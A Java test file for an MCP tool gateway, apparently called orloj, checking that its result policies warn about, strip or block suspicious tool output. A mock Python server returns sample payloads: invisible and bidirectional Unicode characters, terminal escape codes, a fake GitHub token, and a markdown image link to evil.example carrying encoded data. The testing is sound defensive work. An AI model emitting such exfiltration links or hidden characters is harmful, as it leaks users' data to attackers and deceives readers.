package dev.orloj.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.orloj.api.codec.Json;
import dev.orloj.server.testing.RestClient;
import dev.orloj.server.testing.RunningOrlojd;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

/**
 * Results of stdio servers with each kind of finding, with each policy, through each front door.
 */
class ResultPolicyTest {

    private static final String NOTE = "orloj.dev/result-policy";

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    private static final String PROGRAM =
            """
            import json, sys
            token = "ghp_" + "a1B2c3D4e5F6" * 3
            TEXTS = {
                "clean": "nothing here",
                "invisible": "a\\u200bb",
                "bidirectional": "a\\u202eb",
                "escape": "a\\x1b[31mb",
                "data_link": "![x](https://evil.example/p?d=" + "aGVsbG8gd29ybGQx" * 4 + ")",
                "secret": "a " + token,
                "not_examined": "x" * (4 * 1024 * 1024 + 1)}
            for line in sys.stdin:
                message = json.loads(line)
                method, result = message.get("method"), {}
                if method == "initialize":
                    result = {"protocolVersion": message["params"]["protocolVersion"],
                              "capabilities": {"tools": {}, "prompts": {}, "resources": {}},
                              "serverInfo": {"name": "leaky", "version": "1"}}
                elif method == "tools/list":
                    result = {"tools": [{"name": "say", "inputSchema": {"type": "object"}}]}
                elif method == "tools/call":
                    arguments = message["params"]["arguments"]
                    text = TEXTS[arguments["kind"]]
                    result = {"content": [{"type": "text", "text": text}], "own": [1.0, 1e2]}
                    if "structured" in arguments:
                        result["structuredContent"] = {"value": text, text[:100]: 1}
                    if "error" in arguments:
                        result["isError"] = True
                elif method == "prompts/list":
                    result = {"prompts": [{"name": "secret"}]}
                elif method == "prompts/get":
                    text = TEXTS[message["params"]["name"]]
                    result = {"messages": [{"role": "user", "content": {"type": "text", "text": text}}]}
                elif method == "resources/list":
                    result = {"resources": [{"uri": "kind:secret", "name": "secret"}]}
                elif method == "resources/templates/list":
                    result = {"resourceTemplates": []}
                elif method == "resources/read":
                    uri = message["params"]["uri"]
                    result = {"contents": [{"uri": uri, "text": TEXTS[uri[5:]]}]}
                if "id" in message:
                    print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": result}), flush=True)
            """;

    @TempDir private static Path folder;

    private static RunningOrlojd orlojd;

    @BeforeAll
    static void start() throws Exception {
        Path program = Files.writeString(folder.resolve("leaky.py"), PROGRAM);
        List<String> command = List.of("python3", "-S", program.toString());
        orlojd = RunningOrlojd.start();
        create("none", command);
        for (String policy : List.of("off", "warn", "strip", "block")) {
            create(policy, command, "result_policy: \"" + policy + "\"");
        }
        for (String server : List.of("none", "off", "warn", "strip", "block")) {
            orlojd.awaitReady("default", server);
        }
    }

    private static void create(String name, List<String> command, String... more) {
        orlojd.client().create("default", "mcpservers", RunningOrlojd.stdio(name, command, more));
    }

    @AfterAll
    static void stop() {
        orlojd.close();
        HTTP.close();
    }

    @Test
    void noManifestWeakensThePolicyOfTheNamespace() {
        List<String> command = List.of("python3", "-S", folder.resolve("leaky.py").toString());
        create("floor-none", command);
        create("floor-off", command, "result_policy: \"off\"");
        create("floor-block", command, "result_policy: \"block\"");
        for (String server : List.of("floor-none", "floor-off", "floor-block")) {
            orlojd.awaitReady("default", server);
        }
        assertThat(action("floor-off")).isEmpty();
        orlojd.client()
                .create(
                        "default",
                        "toolpolicies",
                        """
                        apiVersion: orloj.dev/v1
                        kind: ToolPolicy
                        metadata: {name: floor}
                        spec: {result_policy: strip, server_filter: {include: [floor-*]}}
                        """);
        for (String server : List.of("floor-none", "floor-off")) {
            await().untilAsserted(() -> assertThat(action(server)).isEqualTo("stripped"));
        }
        assertThat(action("floor-block")).isEqualTo("blocked");
        assertThat(action("none")).isEmpty();
        assertThat(
                        orlojd.client()
                                .get(RestClient.collection("default", "mcpservers") + "/floor-off")
                                .expect(200)
                                .body()
                                .at("/status/conditions")
                                .toString())
                .doesNotContain("ToolsApproved");

        orlojd.client()
                .delete(RestClient.collection("default", "toolpolicies") + "/floor")
                .expect(200);
        await().untilAsserted(() -> assertThat(action("floor-off")).isEmpty());
        assertThat(action("floor-block")).isEqualTo("blocked");
    }

    /** What was done with a result that has a secret; empty if nothing was. */
    private static String action(String server) {
        return overRest(server, "{\"kind\": \"secret\"}")
                .at("/_meta/" + NOTE.replace("/", "~1") + "/action")
                .asString("");
    }

    private static JsonNode overRest(String server, String arguments) {
        return orlojd.client().call("default", server + "--say", arguments).expect(200).body();
    }

    private static HttpResponse<String> send(String path, String body, String... headers)
            throws Exception {
        HttpRequest.Builder request =
                HttpRequest.newBuilder(URI.create(orlojd.client().url() + path))
                        .header("Content-Type", "application/json")
                        .header("Accept", "application/json, text/event-stream")
                        .POST(HttpRequest.BodyPublishers.ofString(body));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static JsonNode result(HttpResponse<String> answer) {
        String body = answer.body();
        String document =
                body.startsWith("{")
                        ? body
                        : body.lines()
                                .filter(line -> line.startsWith("data: {"))
                                .reduce((_, last) -> last)
                                .orElseThrow()
                                .substring("data: ".length());
        JsonNode result = Json.MAPPER.readTree(document).path("result");
        assertThat(result.isObject()).as(body).isTrue();
        return result;
    }

    private static JsonNode overSession(String server, String arguments) throws Exception {
        HttpResponse<String> opened =
                send(
                        "/mcp",
                        """
                        {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params":
                          {"protocolVersion": "2025-11-25", "capabilities": {},
                           "clientInfo": {"name": "t", "version": "1"}}}
                        """);
        String session = opened.headers().firstValue("Mcp-Session-Id").orElseThrow();
        String[] headers = {"Mcp-Session-Id", session, "MCP-Protocol-Version", "2025-11-25"};
        send("/mcp", "{\"jsonrpc\": \"2.0\", \"method\": \"notifications/initialized\"}", headers);
        return result(
                send(
                        "/mcp",
                        """
                        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params":
                          {"name": "%s__say", "arguments": %s}}
                        """
                                .formatted(server, arguments),
                        headers));
    }

    private static JsonNode withoutSession(String server, String arguments) throws Exception {
        return result(
                send(
                        "/mcp",
                        """
                        {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params":
                          {"name": "%s__say", "arguments": %s,
                           "_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                             "io.modelcontextprotocol/clientInfo": {"name": "t", "version": "1"},
                             "io.modelcontextprotocol/clientCapabilities": {}}}}
                        """
                                .formatted(server, arguments),
                        "MCP-Protocol-Version",
                        "2026-07-28",
                        "Mcp-Method",
                        "tools/call",
                        "Mcp-Name",
                        server + "__say"));
    }

    @ParameterizedTest
    @CsvSource({
        "invisible, ab",
        "bidirectional, ab",
        "escape, ab",
        "data_link, ![x](https://evil.example/p)",
        "secret, a [secret removed by orloj]"
    })
    void eachPolicyDoesWhatItsNameSays(String kind, String stripped) {
        String arguments = "{\"kind\": \"%s\", \"structured\": true}".formatted(kind);
        JsonNode original = overRest("none", arguments);

        assertThat(overRest("off", arguments)).hasToString(original.toString());

        JsonNode warned = overRest("warn", arguments);
        assertNote(warned, "warned", kind);
        assertThat(((ObjectNode) warned).without("_meta")).hasToString(original.toString());

        JsonNode shown = overRest("strip", arguments);
        assertNote(shown, "stripped", kind);
        assertThat(shown.at("/content/0/text").asString()).isEqualTo(stripped);
        assertThat(shown.at("/structuredContent/value").asString()).isEqualTo(stripped);
        assertThat(shown.path("structuredContent").has(stripped)).isTrue();
        assertThat(shown.path("own")).hasToString(original.path("own").toString());

        JsonNode blocked = overRest("block", arguments);
        assertNote(blocked, "blocked", kind);
        assertThat(blocked.path("isError").asBoolean()).isTrue();
        assertThat(blocked.has("structuredContent")).isFalse();
        assertThat(blocked.at("/content/0/text").asString())
                .contains("block--say", "\"block\"", "result_policy")
                .doesNotContain(original.at("/content/0/text").asString());
    }

    private static void assertNote(JsonNode result, String action, String kind) {
        JsonNode note = result.path("_meta").path(NOTE);
        assertThat(note.path("action").asString()).isEqualTo(action);
        assertThat(note.path("findings").valueStream().map(f -> f.path("kind").asString()))
                .contains(kind);
    }

    @Test
    void agentsOfEveryRevisionGetTheSame() throws Exception {
        String arguments = "{\"kind\": \"secret\"}";

        JsonNode older = overSession("strip", arguments);
        JsonNode newer = withoutSession("strip", arguments);
        JsonNode blocked = overSession("block", arguments);
        JsonNode blockedToo = withoutSession("block", arguments);

        for (JsonNode each : List.of(older, newer)) {
            assertNote(each, "stripped", "secret");
            assertThat(each.at("/content/0/text").asString())
                    .isEqualTo("a [secret removed by orloj]");
        }
        for (JsonNode each : List.of(blocked, blockedToo)) {
            assertNote(each, "blocked", "secret");
            assertThat(each.path("isError").asBoolean()).isTrue();
        }
        assertThat(overSession("none", arguments).has("_meta")).isFalse();
        assertThat(withoutSession("none", arguments).path("_meta").has(NOTE)).isFalse();
    }

    @Test
    void cleanResultAndThatOfAServerWithoutPolicyHaveNoNote() {
        for (String server : List.of("none", "off", "warn", "strip", "block")) {
            JsonNode clean = overRest(server, "{\"kind\": \"clean\"}");
            assertThat(clean.has("_meta")).isFalse();
            assertThat(clean.at("/content/0/text").asString()).isEqualTo("nothing here");
        }
        assertThat(overRest("none", "{\"kind\": \"secret\"}").has("_meta")).isFalse();
    }

    @Test
    void errorOfAToolIsExaminedAsAResultIs() {
        JsonNode shown = overRest("strip", "{\"kind\": \"escape\", \"error\": true}");

        assertThat(shown.path("isError").asBoolean()).isTrue();
        assertThat(shown.at("/content/0/text").asString()).isEqualTo("ab");
        assertNote(shown, "stripped", "escape");
    }

    @Test
    void resultBeyondTheBoundPassesWithANoteOrIsBlocked() {
        String arguments = "{\"kind\": \"not_examined\"}";

        JsonNode warned = overRest("warn", arguments);
        JsonNode stripped = overRest("strip", arguments);

        assertNote(warned, "warned", "not_examined");
        assertThat(warned.at("/content/0/text").asString()).hasSize(4 * 1024 * 1024 + 1);
        assertNote(stripped, "blocked", "not_examined");
        assertThat(stripped.path("isError").asBoolean()).isTrue();
    }

    @Test
    void keptAnswerIsTheOneAfterTheExamination() throws Exception {
        HttpResponse<String> begun =
                send(
                        RestClient.collection("default", "tools") + "/strip--say/call",
                        "{\"arguments\": {\"kind\": \"secret\"}}",
                        "Prefer",
                        "respond-async");
        assertThat(begun.statusCode()).as(begun.body()).isEqualTo(202);
        String call = begun.headers().firstValue("Location").orElseThrow();

        String kept =
                await().atMost(Duration.ofSeconds(60))
                        .until(
                                () -> orlojd.client().get(call).text(),
                                text -> text.contains("\"Completed\""));

        assertThat(kept).contains("[secret removed by orloj]", NOTE).doesNotContain("ghp_");
    }

    @Test
    void resourcesAndPromptsAreExaminedAsResultsOfToolsAre() throws Exception {
        JsonNode read = result(ofServer("strip", "resources/read", "\"uri\": \"kind:secret\""));
        JsonNode prompt = result(ofServer("strip", "prompts/get", "\"name\": \"secret\""));
        JsonNode clean = result(ofServer("strip", "resources/read", "\"uri\": \"kind:clean\""));
        JsonNode unread = result(ofServer("none", "resources/read", "\"uri\": \"kind:secret\""));

        assertNote(read, "stripped", "secret");
        assertThat(read.at("/contents/0/text").asString()).isEqualTo("a [secret removed by orloj]");
        assertNote(prompt, "stripped", "secret");
        assertThat(prompt.at("/messages/0/content/text").asString())
                .isEqualTo("a [secret removed by orloj]");
        assertThat(clean.path("_meta").has(NOTE)).isFalse();
        assertThat(unread.at("/contents/0/text").asString()).startsWith("a ghp_");
    }

    @Test
    void blockedResourceAndPromptAreAnErrorWithoutTheContent() throws Exception {
        String read = ofServer("block", "resources/read", "\"uri\": \"kind:secret\"").body();
        String prompt = ofServer("block", "prompts/get", "\"name\": \"secret\"").body();
        var overRest =
                orlojd.client()
                        .get(
                                RestClient.collection("default", "mcpservers")
                                        + "/block/resources/read?uri=kind:secret");

        assertThat(read)
                .contains("\"error\"", "-32603", "blocked the result of resources/read")
                .contains("result_policy")
                .doesNotContain("ghp_");
        assertThat(prompt)
                .contains("\"error\"", "blocked the result of prompts/get")
                .doesNotContain("ghp_");
        assertThat(overRest.code()).isNotEqualTo(200);
        assertThat(overRest.text())
                .contains("blocked the result of resources/read")
                .doesNotContain("ghp_");
    }

    /** Sends a request of 2026-07-28 to the endpoint of a server. */
    private static HttpResponse<String> ofServer(String server, String method, String params)
            throws Exception {
        String subject = params.replaceAll(".*: \"(.*)\"", "$1");
        return send(
                "/mcp/default/mcpservers/" + server,
                """
                {"jsonrpc": "2.0", "id": 1, "method": "%s", "params": {%s, "_meta": {
                  "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                  "io.modelcontextprotocol/clientInfo": {"name": "t", "version": "1"},
                  "io.modelcontextprotocol/clientCapabilities": {}}}}
                """
                        .formatted(method, params),
                "MCP-Protocol-Version",
                "2026-07-28",
                "Mcp-Method",
                method,
                "Mcp-Name",
                subject);
    }

    @Test
    void findingsAreCountedByServerKindAndAction() {
        overRest("block", "{\"kind\": \"bidirectional\"}");

        assertThat(orlojd.client().get("/metrics").text().lines())
                .anySatisfy(
                        line ->
                                assertThat(line)
                                        .startsWith("orloj_tool_results_findings_total{")
                                        .contains(
                                                "action=\"blocked\"",
                                                "kind=\"bidirectional\"",
                                                "namespace=\"default\"",
                                                "server=\"block\""));
    }

    @Test
    void policyChangesWithoutANewSession() {
        create("changing", List.of("python3", "-S", folder.resolve("leaky.py").toString()));
        orlojd.awaitReady("default", "changing");
        String path = RestClient.collection("default", "mcpservers") + "/changing";
        assertThat(overRest("changing", "{\"kind\": \"secret\"}").has("_meta")).isFalse();

        orlojd.client().patch(path, "{\"spec\": {\"result_policy\": \"block\"}}").expect(200);

        await().atMost(Duration.ofSeconds(60))
                .until(
                        () ->
                                overRest("changing", "{\"kind\": \"secret\"}")
                                        .path("isError")
                                        .asBoolean());
        assertThat(orlojd.client().patch(path, "{\"spec\": {\"result_policy\": \"hide\"}}").code())
                .isEqualTo(422);
    }
}
